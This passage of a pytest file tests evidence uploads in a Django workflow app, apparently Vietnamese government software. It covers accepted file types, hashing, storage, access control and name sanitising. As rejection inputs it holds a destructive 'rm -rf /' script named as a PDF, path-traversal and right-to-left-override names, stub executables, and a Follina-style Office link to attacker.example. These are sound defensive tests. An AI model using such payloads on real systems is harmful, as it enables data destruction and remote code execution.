"""Evidence files through the step page: what is accepted, how it is kept, who gets it back."""

from __future__ import annotations

import hashlib
import io
import struct
import unicodedata
import urllib.parse
import zipfile
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pytest
from django.conf import settings as django_settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from audit.models import AuditEvent
from tests.factories import CriterionFactory, periods, plan_task
from tests.helpers import PDF
from workflow import services
from workflow.evidence import MACRO_MESSAGE, EvidenceRejected, ole2_entry_names, safe_name, store
from workflow.models import Evidence, PeriodTask, Step


def png_bytes() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (4, 3), (200, 30, 30)).save(buffer, format="PNG")
    return buffer.getvalue()


def docx_bytes() -> bytes:
    document = docx.Document()
    document.add_paragraph("Báo cáo kết quả thực hiện nhiệm vụ cải cách hành chính quý I.")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def zip_bytes(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def xlsx_bytes(extra: dict[str, bytes] | None = None) -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "Số liệu quý I"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return with_parts(buffer.getvalue(), extra or {})


def with_parts(package: bytes, extra: dict[str, bytes], replace: dict[str, bytes] | None = None) -> bytes:
    """An Office package with parts added (or replaced), as Word or Excel would write them."""
    replace = replace or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(package)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            target.writestr(info.filename, replace.get(info.filename, source.read(info.filename)))
        for name, data in extra.items():
            target.writestr(name, data)
    return out.getvalue()


def ole2_bytes(names: list[str], *, storages: tuple[str, ...] = ()) -> bytes:
    """A minimal, valid compound file (Office 97–2003) whose directory holds ``names`` as
    streams and ``storages`` as storages: the FAT in sector 0, the directory after it."""
    end, free, fat_sector = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    entries = [("Root Entry", 5)] + [(n, 2) for n in names] + [(n, 1) for n in storages]
    directory = b""
    for name, kind in entries:
        encoded = (name + "\x00").encode("utf-16-le")
        entry = encoded.ljust(64, b"\x00") + struct.pack("<HBB", len(encoded), kind, 1)
        entry += struct.pack("<III", free, free, free) + b"\x00" * 36 + struct.pack("<II", end, 0)
        directory += entry.ljust(128, b"\x00")
    dir_sectors = max(1, -(-len(directory) // 512))
    directory = directory.ljust(dir_sectors * 512, b"\x00")
    fat = [fat_sector] + [n + 1 for n in range(1, dir_sectors)] + [end]
    fat_bytes = struct.pack(f"<{len(fat)}I", *fat).ljust(512, b"\xff")
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
    header += b"\x00" * 6 + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
    header += struct.pack("<I", 0) + b"\xff" * (4 * 108)
    assert len(header) == 512
    return header + fat_bytes + directory


def attachment_name(response: Any) -> str:
    """The file name of a Content-Disposition header, in either of Django's two forms."""
    header = response["Content-Disposition"]
    if "filename*=utf-8''" in header:
        return urllib.parse.unquote(header.split("filename*=utf-8''", 1)[1])
    return header.split('filename="', 1)[1].rstrip('"')


def files_under(root: Path) -> list[Path]:
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


@pytest.fixture
def lead_step(units: dict[str, Any], personas: dict[str, Any], evidence_root: Path) -> Step:
    """QLCN's lead step of a launched process (partner QLTM), claimed by QLCN's staff member."""
    criterion = CriterionFactory()
    task = plan_task(criterion, lead=[units["QLCN"]], partners=[units["QLTM"]])
    period = periods(criterion.section.appendix.plan)["Q1"]
    services.period_launch(period=period, actor=personas["office_reviewer"])
    step = PeriodTask.objects.get(plan_task=task, period=period).steps.get(kind="lead")
    services.step_claim(step_id=step.pk, user=personas["staff"])
    return step


def upload(
    client: Any, step: Step, name: str, content: bytes, content_type: str = "application/octet-stream"
) -> Any:
    return client.post(
        reverse("workflow:step", args=[step.pk]),
        {"action": "upload", "file": SimpleUploadedFile(name, content, content_type)},
    )


# --- accepted files ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "make", "content_type"),
    [
        ("Báo cáo kết quả quý I.pdf", lambda: PDF, "application/pdf"),
        ("Ảnh chụp hội nghị.png", png_bytes, "image/png"),
        (
            "Kế hoạch triển khai.docx",
            docx_bytes,
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (
            "Số liệu.xlsx",
            lambda: xlsx_bytes(),
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        ("Công văn cũ.doc", lambda: ole2_bytes(["WordDocument", "1Table"]), "application/msword"),
        ("Bảng cũ.xls", lambda: ole2_bytes(["Workbook"]), "application/vnd.ms-excel"),
    ],
)
def test_assignee_uploads_a_real_file_kept_outside_served_folders_with_its_hash_and_name(
    client: Any,
    personas: dict[str, Any],
    lead_step: Step,
    evidence_root: Path,
    name: str,
    make: Any,
    content_type: str,
) -> None:
    # Given the assignee of the lead step and a real file of an accepted type
    content = make()
    client.force_login(personas["staff"])

    # When they attach it through the step page
    response = upload(client, lead_step, name, content)

    # Then it is recorded with the original name, the content's type, size and SHA-256
    assert response.status_code == 302
    assert response["Location"] == reverse("workflow:step", args=[lead_step.pk])
    evidence = Evidence.objects.get(step=lead_step)
    assert evidence.original_name == name
    assert evidence.content_type == content_type
    assert evidence.size == len(content)
    assert evidence.sha256 == hashlib.sha256(content).hexdigest()
    assert evidence.uploaded_by == personas["staff"]
    # and the bytes are stored, under a random name, below EVIDENCE_ROOT only
    (stored,) = files_under(evidence_root)
    assert stored.read_bytes() == content
    assert stored.name == evidence.stored_name
    assert len(evidence.stored_name) == 32 and name not in str(stored)
    for served in (Path(django_settings.STATIC_ROOT), Path(django_settings.BASE_DIR) / "static"):
        assert not stored.resolve().is_relative_to(served.resolve())
    assert stored.resolve().is_relative_to(evidence_root.resolve())
    # and the trail says who attached what
    event = AuditEvent.objects.get(action="evidence_added", step=lead_step)
    assert event.data == {"name": name, "sha256": evidence.sha256, "size": len(content)}


def test_allowed_user_downloads_the_bytes_as_an_attachment_with_the_vietnamese_name(
    client: Any, personas: dict[str, Any], lead_step: Step
) -> None:
    # Given the assignee attached a PDF with a Vietnamese name
    name = "Báo cáo kết quả quý I.pdf"
    client.force_login(personas["staff"])
    assert upload(client, lead_step, name, PDF).status_code == 302
    evidence = Evidence.objects.get(step=lead_step)
    url = reverse("workflow:evidence", args=[evidence.pk])

    for persona in ("staff", "other_staff", "auditor", "office_reviewer"):
        # When someone allowed to read the step (own unit, partner unit, auditor, office) downloads it
        client.force_login(personas[persona])
        response = client.get(url)

        # Then they get the exact bytes as an attachment under the Vietnamese name
        assert response.status_code == 200, persona
        assert b"".join(response.streaming_content) == PDF
        assert response["Content-Disposition"] == f"attachment; filename*=utf-8''{urllib.parse.quote(name)}"
        assert response["Content-Type"] == "application/octet-stream"
        assert response["X-Content-Type-Options"] == "nosniff"


def test_unit_not_involved_cannot_download_evidence(
    client: Any, personas: dict[str, Any], lead_step: Step
) -> None:
    # Given a file attached to QLCN's lead step
    client.force_login(personas["staff"])
    assert upload(client, lead_step, "Kế hoạch.pdf", PDF).status_code == 302
    evidence = Evidence.objects.get(step=lead_step)

    # When ATNL's staff member asks for it
    client.force_login(personas["atnl_staff"])
    response = client.get(reverse("workflow:evidence", args=[evidence.pk]))

    # Then it is refused
    assert response.status_code == 403
    assert not hasattr(response, "streaming_content")


# --- rejected files -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        (
            "bao-cao.pdf",
            b"#!/bin/sh\nrm -rf /\n",
            "Loại tệp không được chấp nhận: chỉ nhận PDF, tài liệu Office, ảnh, hoặc tệp zip chứa các loại đó.",
        ),
        ("rong.pdf", b"", "Tập tin được gửi là rỗng."),
        (
            "ho-so.zip",
            zip_bytes({"bao-cao.pdf": PDF, "setup.exe": b"MZ\x90\x00" + b"\x00" * 60}),
            "Tệp nén chứa tệp không được chấp nhận: setup.exe.",
        ),
        ("hong.zip", b"PK\x03\x04 not really a zip", "Tệp nén bị hỏng hoặc không đọc được."),
    ],
    ids=["script-named-pdf", "empty", "zip-with-exe", "broken-zip"],
)
def test_rejected_upload_is_400_with_a_vietnamese_message_and_leaves_nothing(
    client: Any,
    personas: dict[str, Any],
    lead_step: Step,
    evidence_root: Path,
    name: str,
    content: bytes,
    message: str,
) -> None:
    # Given the assignee of the lead step
    client.force_login(personas["staff"])
    events = AuditEvent.objects.count()

    # When they attach a file the checks refuse
    response = upload(client, lead_step, name, content)

    # Then the page says why, in Vietnamese; no row, no event, no file is left
    assert response.status_code == 400
    assert message in response.content.decode()
    assert Evidence.objects.count() == 0
    assert AuditEvent.objects.count() == events
    assert files_under(evidence_root) == []


def test_upload_over_the_size_limit_is_400_and_leaves_nothing(
    client: Any, settings: Any, personas: dict[str, Any], lead_step: Step, evidence_root: Path
) -> None:
    # Given a size limit of 1 KiB and a 2 KiB PDF
    settings.EVIDENCE_MAX_BYTES = 1024
    content = PDF + b"0" * (2048 - len(PDF))
    client.force_login(personas["staff"])

    # When the assignee attaches it
    response = upload(client, lead_step, "lon.pdf", content)

    # Then it is refused as too large
    assert response.status_code == 400
    assert "Tệp quá lớn" in response.content.decode()
    assert Evidence.objects.count() == 0
    assert files_under(evidence_root) == []


def test_file_at_exactly_the_size_limit_is_accepted(
    client: Any, settings: Any, personas: dict[str, Any], lead_step: Step
) -> None:
    settings.EVIDENCE_MAX_BYTES = 1024
    content = PDF + b"0" * (1024 - len(PDF))
    client.force_login(personas["staff"])

    assert upload(client, lead_step, "vua-du.pdf", content).status_code == 302
    assert Evidence.objects.get(step=lead_step).size == 1024


def test_stored_file_is_deleted_when_recording_it_fails(
    client: Any, monkeypatch: Any, personas: dict[str, Any], lead_step: Step, evidence_root: Path
) -> None:
    # Given recording the file fails after it was written (someone else took the step meanwhile)
    def lost_race(**kwargs: Any) -> Any:
        raise services.StepConflict("Bước này đang do người khác thực hiện.")

    monkeypatch.setattr(services, "evidence_attach", lost_race)
    client.force_login(personas["staff"])

    # When the assignee attaches a valid PDF
    response = upload(client, lead_step, "bao-cao.pdf", PDF)

    # Then the page reports the conflict and the written file is gone
    assert response.status_code == 409
    assert Evidence.objects.count() == 0
    assert files_under(evidence_root) == []


def test_zip_disguised_as_office_document_still_cannot_carry_an_exe(
    client: Any, personas: dict[str, Any], lead_step: Step, evidence_root: Path
) -> None:
    # Given a zip with an OOXML marker file and an executable
    content = zip_bytes({"[Content_Types].xml": b"<Types/>", "setup.exe": b"MZ\x90\x00" + b"\x00" * 60})
    client.force_login(personas["staff"])

    # When the assignee attaches it as a .docx
    response = upload(client, lead_step, "bao-cao.docx", content)

    # Then it is refused like any zip carrying an executable
    assert response.status_code == 400
    assert Evidence.objects.count() == 0
    assert files_under(evidence_root) == []


# --- names --------------------------------------------------------------------------------


def test_upload_with_path_and_control_characters_in_its_name_is_stored_under_a_safe_name(
    client: Any, personas: dict[str, Any], lead_step: Step
) -> None:
    # Given a raw multipart body whose file name climbs directories and holds a NUL
    boundary = "----cchc-test-boundary"
    body = (
        (
            f"--{boundary}\r\n"
            'Content-Disposition: form-data; name="action"\r\n\r\nupload\r\n'
            f"--{boundary}\r\n"
            'Content-Disposition: form-data; name="file"; filename="../../etc/passwd\x00.pdf"\r\n'
            "Content-Type: application/pdf\r\n\r\n"
        ).encode()
        + PDF
        + f"\r\n--{boundary}--\r\n".encode()
    )
    client.force_login(personas["staff"])

    # When the assignee posts it
    response = client.generic(
        "POST",
        reverse("workflow:step", args=[lead_step.pk]),
        body,
        content_type=f"multipart/form-data; boundary={boundary}",
    )

    # Then the file is kept under a display name with no path and no control characters
    assert response.status_code == 302
    name = Evidence.objects.get(step=lead_step).original_name
    assert name == "passwd.pdf"
    assert "/" not in name and "\\" not in name
    assert not any(unicodedata.category(ch).startswith("C") for ch in name)


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("../../etc/passwd\x00.pdf", "passwd.pdf"),
        ("..\\..\\Windows\\win.ini\r\n.pdf", "win.ini.pdf"),
        ("báo cáo\u202egpj.exe.pdf", "báo cáogpj.exe.pdf"),
        ("Ba\u0301o ca\u0301o.pdf", "Báo cáo.pdf"),
        ("/", "tep-dinh-kem.pdf"),
        ("\x00\x01", "tep-dinh-kem.pdf"),
        ("..", "tep-dinh-kem.pdf"),
    ],
)
def test_store_keeps_a_safe_nfc_display_name_whatever_the_raw_name(
    evidence_root: Path, raw: str, expected: str
) -> None:
    # Given a raw name as a client could send it (Django's parser already strips some of this)
    # When the file is checked and stored under that name
    stored = store(io.BytesIO(PDF), name=raw, size=len(PDF))

    # Then the display name has no path, no control or format characters, and is NFC
    assert stored.original_name == expected
    assert safe_name(raw) == expected.removesuffix(".pdf") or safe_name(raw) == expected
    assert unicodedata.is_normalized("NFC", stored.original_name)
    assert stored.path.read_bytes() == PDF


# --- removing and counting -------------------------------------------------------------------


def test_removing_evidence_marks_it_removed_keeps_the_row_and_hides_it(
    client: Any, personas: dict[str, Any], lead_step: Step, evidence_root: Path
) -> None:
    # Given the assignee attached two files
    client.force_login(personas["staff"])
    assert upload(client, lead_step, "Giữ lại.pdf", PDF).status_code == 302
    assert upload(client, lead_step, "Nhầm tệp.png", png_bytes()).status_code == 302
    kept, wrong = Evidence.objects.filter(step=lead_step).order_by("pk")
    url = reverse("workflow:step", args=[lead_step.pk])

    # When they remove the wrong one
    response = client.post(url, {"action": "remove_evidence", "evidence": wrong.pk})

    # Then its row stays, marked removed by them, and its file stays for the audit
    assert response.status_code == 302
    wrong.refresh_from_db()
    assert wrong.removed_at is not None
    assert wrong.removed_by == personas["staff"]
    assert Evidence.objects.filter(step=lead_step).count() == 2
    assert len(files_under(evidence_root)) == 2
    assert AuditEvent.objects.filter(action="evidence_removed", step=lead_step).count() == 1
    # and the step page no longer lists it (but still lists the other)
    page = client.get(url).content.decode()
    assert reverse("workflow:evidence", args=[wrong.pk]) not in page
    assert reverse("workflow:evidence", args=[kept.pk]) in page
    # and removing it again is a conflict, not a second event
    again = client.post(url, {"action": "remove_evidence", "evidence": wrong.pk})
    assert again.status_code == 409
    assert "Tệp này đã được gỡ." in again.content.decode()
    assert AuditEvent.objects.filter(action="evidence_removed", step=lead_step).count() == 1


def test_lead_submit_with_only_a_file_and_no_explanation_succeeds(
    client: Any, personas: dict[str, Any], lead_step: Step
) -> None:
    # Given the assignee attached one file and wrote no explanation
    client.force_login(personas["staff"])
    content = docx_bytes()
    assert upload(client, lead_step, "Kết quả.docx", content).status_code == 302

    # When they submit the report (the partner QLTM ticked, as the form proposes)
    response = client.post(
        reverse("workflow:step", args=[lead_step.pk]),
        {
            "action": "submit",
            "report-result": "Đã ban hành kế hoạch",
            "report-self_assessment": "done",
            "report-partners_asked": [str(lead_step.period_task.plan_task.partner_units.get().pk)],
        },
    )

    # Then it goes on to the partner unit, and the trail names the file and its hash
    assert response.status_code == 302
    assert response["Location"] == reverse("workflow:my_steps")
    lead_step.refresh_from_db()
    assert (lead_step.state, lead_step.explanation, lead_step.submitted_by) == ("done", "", personas["staff"])
    partner = Step.objects.get(period_task=lead_step.period_task, kind="partner")
    assert partner.unit.short_name == "QLTM"
    event = AuditEvent.objects.get(action="submit", step=lead_step)
    assert event.data["evidence"] == [
        {"original_name": "Kết quả.docx", "sha256": hashlib.sha256(content).hexdigest()}
    ]


def test_a_removed_file_no_longer_counts_as_evidence(
    client: Any, personas: dict[str, Any], lead_step: Step
) -> None:
    # Given the assignee attached a file and then removed it
    client.force_login(personas["staff"])
    url = reverse("workflow:step", args=[lead_step.pk])
    assert upload(client, lead_step, "Kết quả.pdf", PDF).status_code == 302
    evidence = Evidence.objects.get(step=lead_step)
    assert client.post(url, {"action": "remove_evidence", "evidence": evidence.pk}).status_code == 302

    # When they submit without an explanation
    response = client.post(
        url, {"action": "submit", "report-result": "Đã làm", "report-self_assessment": "done"}
    )

    # Then the explanation is asked for and the step stays
    assert response.status_code == 400
    assert "hãy đính kèm tệp hoặc viết giải trình" in response.content.decode()
    lead_step.refresh_from_db()
    assert lead_step.state == "open"
    assert not Step.objects.filter(kind="partner").exists()


# --- the name's extension is the content's type's -------------------------------------------


@pytest.mark.parametrize(
    "name", ["Báo cáo.hta", "chay.bat", "trang.html", "cai-dat.exe", "Báo cáo.docm", "anh.jpg"]
)
def test_pdf_under_another_types_extension_is_refused_and_leaves_nothing(
    client: Any, personas: dict[str, Any], lead_step: Step, evidence_root: Path, name: str
) -> None:
    # Given the assignee and a real PDF named as something else
    client.force_login(personas["staff"])
    events = AuditEvent.objects.count()

    # When they attach it
    response = upload(client, lead_step, name, PDF)

    # Then it is refused, saying which extension the content needs; nothing is left
    assert response.status_code == 400
    ext = name.rsplit(".", 1)[1]
    assert (
        f"Đuôi tên tệp “.{ext}” không khớp với nội dung tệp (PDF): hãy đặt tên tệp với đuôi .pdf."
        in response.content.decode()
    )
    assert Evidence.objects.count() == 0
    assert AuditEvent.objects.count() == events
    assert files_under(evidence_root) == []


@pytest.mark.parametrize(
    ("name", "make", "stored_as"),
    [
        ("Báo cáo", lambda: PDF, "Báo cáo.pdf"),
        ("BAO-CAO.PDF", lambda: PDF, "BAO-CAO.pdf"),
        ("Ảnh.JPEG", lambda: b"\xff\xd8\xff\xe0" + b"\x00" * 40, "Ảnh.jpeg"),
        ("Bảng số liệu", lambda: xlsx_bytes(), "Bảng số liệu.xlsx"),
    ],
)
def test_stored_and_downloaded_name_ends_with_the_sniffed_types_extension(
    client: Any, personas: dict[str, Any], lead_step: Step, name: str, make: Any, stored_as: str
) -> None:
    # Given a file without an extension, or with its type's in capitals
    client.force_login(personas["staff"])

    # When it is attached and downloaded
    assert upload(client, lead_step, name, make()).status_code == 302
    evidence = Evidence.objects.get(step=lead_step)
    response = client.get(reverse("workflow:evidence", args=[evidence.pk]))

    # Then its name carries the type's extension, stored and downloaded
    assert evidence.original_name == stored_as
    assert attachment_name(response) == stored_as


@pytest.mark.parametrize(
    ("original_name", "content_type", "downloaded"),
    [
        ("Báo cáo.hta", "application/pdf", "Báo cáo.hta.pdf"),
        ("trang.html", "application/pdf", "trang.html.pdf"),
        ("ke-hoach.docm", "application/vnd.openxmlformats-officedocument", "ke-hoach.docm.docx"),
        ("so-lieu.xlsx", "application/vnd.openxmlformats-officedocument", "so-lieu.xlsx"),
        ("cu.DOC", "application/vnd.ms-office", "cu.doc"),
    ],
)
def test_a_row_stored_before_the_check_downloads_under_its_types_extension(
    client: Any,
    personas: dict[str, Any],
    lead_step: Step,
    original_name: str,
    content_type: str,
    downloaded: str,
) -> None:
    # Given a row recorded before names were checked, with a dangerous or family-typed name
    stored = store(io.BytesIO(PDF), name="x.pdf")
    services.evidence_attach(step_id=lead_step.pk, user=personas["staff"], stored=stored)
    Evidence.objects.filter(step=lead_step).update(original_name=original_name, content_type=content_type)
    evidence = Evidence.objects.get(step=lead_step)
    client.force_login(personas["office_reviewer"])

    # When it is downloaded
    response = client.get(reverse("workflow:evidence", args=[evidence.pk]))

    # Then the name ends with the type's extension, never the stored one alone
    assert response.status_code == 200
    assert attachment_name(response) == downloaded


# --- macros and unexpected parts in Office files --------------------------------------------

UNEXPECTED = "Tệp Office chứa thành phần không được chấp nhận"
FOLLINA_RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'relationships"><Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/'
    b'2006/relationships/oleObject" Target="http://attacker.example/x.html!" TargetMode="External"/>'
    b"</Relationships>"
)
HYPERLINK_RELS = FOLLINA_RELS.replace(b"/oleObject", b"/hyperlink").replace(b"x.html!", b"trang")


def macro_docx() -> bytes:
    """A .docm as Word writes it: the macro content type and a vbaProject.bin part."""
    package = docx_bytes()
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        types = archive.read("[Content_Types].xml")
    types = types.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return with_parts(
        package,
        {"word/vbaProject.bin": OLE_VBA, "word/_rels/vbaProject.bin.rels": b"<Relationships/>"},
        replace={"[Content_Types].xml": types},
    )


OLE_VBA = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100


@pytest.mark.parametrize(
    ("name", "make", "message"),
    [
        ("Báo cáo.docm", macro_docx, MACRO_MESSAGE),
        ("Báo cáo.docx", macro_docx, MACRO_MESSAGE),
        (
            "Bảng.xlsm",
            lambda: xlsx_bytes({"xl/vbaProject.bin": OLE_VBA}),
            MACRO_MESSAGE,
        ),
        (
            "Bảng.xlsx",
            lambda: with_parts(docx_bytes(), {"word/vbaData.xml": b"<wne:vbaSuppData/>"}),
            MACRO_MESSAGE,
        ),
        (
            "ActiveX.docx",
            lambda: with_parts(
                docx_bytes(), {"word/activeX/activeX1.xml": b"<ax/>", "word/activeX/activeX1.bin": b"x"}
            ),
            f"{UNEXPECTED} (điều khiển ActiveX, đối tượng nhúng, chương trình hoặc liên kết ngoài): activeX1.xml.",
        ),
        (
            "Nhung.docx",
            lambda: with_parts(docx_bytes(), {"word/embeddings/oleObject1.bin": OLE_VBA}),
            f"{UNEXPECTED} (điều khiển ActiveX, đối tượng nhúng, chương trình hoặc liên kết ngoài): oleObject1.bin.",
        ),
        (
            "Chuong-trinh.xlsx",
            lambda: xlsx_bytes({"xl/embeddings/setup.exe": b"MZ\x90\x00"}),
            f"{UNEXPECTED} (điều khiển ActiveX, đối tượng nhúng, chương trình hoặc liên kết ngoài): setup.exe.",
        ),
        (
            "Lien-ket.docx",
            lambda: with_parts(docx_bytes(), {}, replace={"word/_rels/document.xml.rels": FOLLINA_RELS}),
            f"{UNEXPECTED} (điều khiển ActiveX, đối tượng nhúng, chương trình hoặc liên kết ngoài): document.xml.rels.",
        ),
        (
            "Macro.doc",
            lambda: ole2_bytes(["WordDocument", "1Table"], storages=("Macros", "VBA")),
            MACRO_MESSAGE,
        ),
        ("Macro.xls", lambda: ole2_bytes(["Workbook"], storages=("_VBA_PROJECT_CUR",)), MACRO_MESSAGE),
        (
            "Goi.doc",
            lambda: ole2_bytes(["WordDocument", "\x01Ole10Native"], storages=("ObjectPool",)),
            f"{UNEXPECTED} (điều khiển ActiveX, đối tượng nhúng, chương trình hoặc liên kết ngoài): ole10native.",
        ),
        (
            "Thu.doc",
            lambda: ole2_bytes(["__substg1.0_0037001F"]),
            "Tệp Office 97–2003 không nhận ra được (chỉ nhận .doc, .xls, .ppt).",
        ),
        (
            "Hong.doc",
            lambda: ole2_bytes(["WordDocument"])[:600],
            "Tệp Office 97–2003 bị hỏng hoặc không đọc được.",
        ),
        ("Bang.doc", lambda: ole2_bytes(["Workbook"]), "Đuôi tên tệp “.doc” không khớp với nội dung tệp"),
        (
            "Bang.docx",
            lambda: xlsx_bytes(),
            "Đuôi tên tệp “.docx” không khớp với nội dung tệp (bảng tính Excel)",
        ),
        (
            "ho-so.zip",
            lambda: zip_bytes({"bao-cao.pdf": b"<html><script>alert(1)</script></html>"}),
            "Tệp nén chứa tệp có nội dung không khớp đuôi tên: bao-cao.pdf.",
        ),
    ],
    ids=[
        "docm",
        "docm-named-docx",
        "xlsm",
        "vba-data",
        "activex",
        "ole-object",
        "embedded-exe",
        "external-ole-link",
        "doc-macros",
        "xls-macros",
        "doc-ole-package",
        "ole2-not-office",
        "ole2-truncated",
        "xls-named-doc",
        "xlsx-named-docx",
        "zip-entry-not-its-type",
    ],
)
def test_macro_enabled_or_unexpected_office_file_is_refused_and_leaves_nothing(
    client: Any,
    personas: dict[str, Any],
    lead_step: Step,
    evidence_root: Path,
    name: str,
    make: Any,
    message: str,
) -> None:
    # Given the assignee and an Office file with a macro or an unexpected part
    client.force_login(personas["staff"])
    events = AuditEvent.objects.count()

    # When they attach it
    response = upload(client, lead_step, name, make())

    # Then it is refused with a Vietnamese message; no row, no event, no file
    assert response.status_code == 400
    assert message in response.content.decode()
    assert Evidence.objects.count() == 0
    assert AuditEvent.objects.count() == events
    assert files_under(evidence_root) == []


@pytest.mark.parametrize(
    ("name", "make"),
    [
        (
            "Có liên kết.docx",
            lambda: with_parts(docx_bytes(), {}, {"word/_rels/document.xml.rels": HYPERLINK_RELS}),
        ),
        (
            "Biểu đồ.docx",
            lambda: with_parts(
                docx_bytes(), {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx_bytes()}
            ),
        ),
        ("In.xlsx", lambda: xlsx_bytes({"xl/printerSettings/printerSettings1.bin": b"\x00" * 64})),
    ],
    ids=["hyperlink", "chart-workbook", "printer-settings"],
)
def test_ordinary_office_parts_are_accepted(
    personas: dict[str, Any], lead_step: Step, name: str, make: Any
) -> None:
    # Given parts ordinary documents carry: a web link, a chart's workbook, printer settings
    # When the file is checked and stored
    stored = store(io.BytesIO(make()), name=name)
    # Then it is kept under its name
    assert stored.original_name == name


def test_compound_file_directory_is_read_across_several_sectors() -> None:
    # Given a compound file whose directory spans three sectors
    names = [f"Stream{n}" for n in range(10)] + ["WordDocument"]
    # When its directory is read
    # Then every name is found, in order, after the root
    assert ole2_entry_names(io.BytesIO(ole2_bytes(names))) == ["Root Entry", *names]


def odf_bytes(mimetype: bytes, extra: dict[str, bytes] | None = None) -> bytes:
    return zip_bytes(
        {
            "mimetype": mimetype,
            "META-INF/manifest.xml": b"<manifest:manifest/>",
            "content.xml": b"<office:document-content/>",
            **(extra or {}),
        }
    )


@pytest.mark.parametrize(
    ("name", "content", "outcome"),
    [
        ("Báo cáo.odt", odf_bytes(b"application/vnd.oasis.opendocument.text"), "Báo cáo.odt"),
        ("Bảng.ods", odf_bytes(b"application/vnd.oasis.opendocument.spreadsheet"), "Bảng.ods"),
        (
            "Báo cáo.ods",
            odf_bytes(b"application/vnd.oasis.opendocument.text"),
            "Đuôi tên tệp “.ods” không khớp với nội dung tệp (văn bản OpenDocument)",
        ),
        (
            "Macro.odt",
            odf_bytes(b"application/vnd.oasis.opendocument.text", {"Basic/Standard/Module1.xml": b"<x/>"}),
            "Tệp OpenDocument có macro không được chấp nhận",
        ),
    ],
    ids=["odt", "ods", "odt-named-ods", "odt-macro"],
)
def test_opendocument_files_are_typed_and_macros_refused(
    evidence_root: Path, name: str, content: bytes, outcome: str
) -> None:
    # Given an OpenDocument file (Debian's LibreOffice default)
    # When it is checked
    try:
        result = store(io.BytesIO(content), name=name).original_name
    except EvidenceRejected as rejected:
        result = rejected.message
    # Then it is kept under its type's extension, or refused with the reason; nothing written
    assert result.startswith(outcome)
    assert len(files_under(evidence_root)) == (1 if result == name else 0)


# --- carried over to a later round ---------------------------------------------------------------


def return_to_lead(lead_step: Step, personas: dict[str, Any]) -> Step:
    """The lead step submitted, the partner's opinion in, the office returns it: the round-2 step."""
    services.step_submit(
        step_id=lead_step.pk,
        user=personas["staff"],
        data={"result": "Đã ban hành kế hoạch", "self_assessment": "done"},
    )
    partner = Step.objects.get(period_task=lead_step.period_task, kind="partner")
    services.step_claim(step_id=partner.pk, user=personas["other_staff"])
    services.step_submit(step_id=partner.pk, user=personas["other_staff"], data={"no_opinion": True})
    review = Step.objects.get(period_task=lead_step.period_task, kind="review")
    services.step_claim(step_id=review.pk, user=personas["office_reviewer"])
    services.step_submit(
        step_id=review.pk,
        user=personas["office_reviewer"],
        data={"decision": "lead", "reason": "Bổ sung số liệu"},
    )
    return Step.objects.get(period_task=lead_step.period_task, kind="lead", round=2)


def test_a_returned_step_starts_with_the_previous_files_same_bytes_round_one_untouched(
    client: Any, personas: dict[str, Any], lead_step: Step, evidence_root: Path
) -> None:
    # Given the assignee attached a PDF and a PNG, removed the PNG and submitted; the office returned it
    client.force_login(personas["staff"])
    assert upload(client, lead_step, "Kế hoạch.pdf", PDF).status_code == 302
    assert upload(client, lead_step, "Nhầm.png", png_bytes()).status_code == 302
    first_pdf, first_png = Evidence.objects.filter(step=lead_step).order_by("pk")
    services.evidence_remove(evidence_id=first_png.pk, user=personas["staff"])
    before = list(Evidence.objects.filter(step=lead_step).order_by("pk").values())
    second = return_to_lead(lead_step, personas)

    # Then round 2 has the kept file only: a new row, carried from round 1's, naming the same file
    (carried,) = Evidence.objects.filter(step=second)
    assert carried.carried_from == first_pdf
    assert (carried.stored_name, carried.sha256, carried.size, carried.original_name) == (
        first_pdf.stored_name,
        hashlib.sha256(PDF).hexdigest(),
        len(PDF),
        "Kế hoạch.pdf",
    )
    assert (carried.uploaded_by, carried.removed_at) == (personas["staff"], None)
    assert len(files_under(evidence_root)) == 2  # no copy made
    assert list(Evidence.objects.filter(step=lead_step).order_by("pk").values()) == before
    # and the round-2 page lists it with its download link, which gives the same bytes
    page = client.get(reverse("workflow:step", args=[second.pk])).content.decode()
    assert "Kế hoạch.pdf" in page and "Chưa có tệp nào." not in page
    response = client.get(reverse("workflow:evidence", args=[carried.pk]))
    assert b"".join(response.streaming_content) == PDF

    # When the author resubmits without a new file and without an explanation
    response = client.post(
        reverse("workflow:step", args=[second.pk]),
        {"action": "submit", "report-result": "Đã bổ sung số liệu", "report-self_assessment": "done"},
    )

    # Then the kept file counts as evidence, and the trail names it with its unchanged hash
    assert response.status_code == 302
    event = AuditEvent.objects.get(action="submit", step=second)
    assert event.data["evidence"] == [{"original_name": "Kế hoạch.pdf", "sha256": first_pdf.sha256}]


def test_removing_a_carried_file_removes_it_from_the_new_round_only(
